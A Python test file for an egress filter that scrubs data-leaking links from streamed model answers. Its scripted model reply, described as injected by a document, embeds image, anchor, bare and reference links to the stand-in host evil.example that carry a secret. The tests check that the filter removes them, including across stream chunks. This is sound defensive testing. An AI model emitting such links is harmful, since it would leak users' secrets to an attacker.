"""The egress how-to, run: over a real socket, the live text, the settled turn and what was stored."""

import asyncio
import json
import socket
import threading
from collections.abc import AsyncIterator, Generator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote
from urllib.request import urlopen

import uvicorn

from docs.examples.egress_events import pass_on
from docs.examples.egress_sse import Model, application
from registry.egress import LINK_REMOVED, strip_egress

ANSWER = (
    "The **draft** is ready [1].\n\n![status](https://evil.example/p?d=SEKRIT)\n\n"
    "See <a href='//evil.example/SEKRIT'>the page</a> or https://evil.example/SEKRIT, if 5 < 10.\n\n"
    "[1]: //evil.example/SEKRIT"
)


async def scripted(question: str) -> AsyncIterator[str]:
    """A model that was told by a document what to answer; its pieces are cut where a filter is caught out."""
    for start in range(0, len(ANSWER), 7):
        await asyncio.sleep(0)
        yield ANSWER[start : start + 7]


@contextmanager
def served(model: Model, database: Path) -> Generator[str, None, None]:
    """The example on a free port of the loopback."""
    listener = socket.create_server(("127.0.0.1", 0))
    config = uvicorn.Config(application(model, database), log_level="error", lifespan="off")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(timeout=5)
        listener.close()


def read(url: str) -> str:
    with urlopen(url, timeout=5) as response:
        body: bytes = response.read()
    return body.decode()


def test_a_client_reads_the_same_scrubbed_words_live_settled_and_stored(tmp_path: Path) -> None:
    with served(scripted, tmp_path / "turns.sqlite") as base:
        body = read(f"{base}/answer?q={quote('is it ready?')}")
        turns = json.loads(read(f"{base}/turns"))
    events = [dict(line.split(": ", 1) for line in block.split("\n")) for block in body.strip().split("\n\n")]
    live = "".join(json.loads(item["data"])["text"] for item in events if item["event"] == "text.delta")
    settled = json.loads(events[-1]["data"])
    assert events[-1]["event"] == "turn.completed"
    assert live == settled["next_message_md"] == strip_egress(ANSWER)
    assert settled["verdict"] == "done"
    assert turns == [{"question": "is it ready?", "answer": live}]
    assert "evil.example" not in body
    assert "SEKRIT" not in body
    for words in ("The **draft** is ready [1].", "![status]", "the page", "if 5 < 10."):
        assert words in live


def test_one_line_scrubs_the_events_of_a_provider() -> None:
    async def events() -> AsyncIterator[dict[str, object]]:
        for piece in ("see ", "htt", "ps://evil.", "example/S", " now"):
            yield {"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]}

    async def shown() -> str:
        return "".join([event["choices"][0]["delta"]["content"] async for event in pass_on(events())])

    assert asyncio.run(shown()) == f"see {LINK_REMOVED} now"
